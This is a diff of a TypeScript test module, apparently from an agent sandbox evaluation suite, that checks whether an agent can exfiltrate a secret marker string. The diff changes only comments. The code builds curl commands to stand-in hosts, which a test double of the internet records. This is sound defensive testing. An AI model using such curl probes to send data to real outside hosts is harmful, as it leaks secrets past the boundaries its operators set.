@@ -1,6 +1,6 @@
 /**
- * What an agent can carry out of its group by the ways that it has: names, addresses, the model.
- * Here the internet is a double that tells what reached it.
+ * The ways in which an agent could carry data out of its group: names, addresses, the model. The
+ * internet is a double that records what reached it.
  */
 
 import type { Internet } from '../internet/internet.ts';
@@ -10,21 +10,21 @@ import type { Check } from './check.ts';
 
 const area = 'exfiltration';
 
-/** The double, where mallory's group may reach `listed.example` and `*.wild.example`. */
+/** Starts the double. Mallory's group may reach `listed.example` and `*.wild.example`. */
 export interface Outside {
   internet: Internet;
   listed: WebHost;
   app: App;
 }
 
-/** What an agent tries, and whether it reached anybody: the double's word counts. */
+/** An attempt, and whether it reached anybody according to the double. */
 export interface Exfiltration extends Check {
   reached: (outside: Outside) => boolean;
 }
 
 const secretWord = 'carried-out-0123456789';
 
-/** Whatever is answered; what reached whom is asked elsewhere. */
+/** Ignores the answers; the double records what arrived. */
 const tries = (urls: string[]) => ({
   language: 'bash' as const,
   code: `${urls.map((url) => `curl -s -m 10 "${url}" -o answer -w '%{http_code} %{http_connect}\\n'`).join('\n')}\ntrue`,
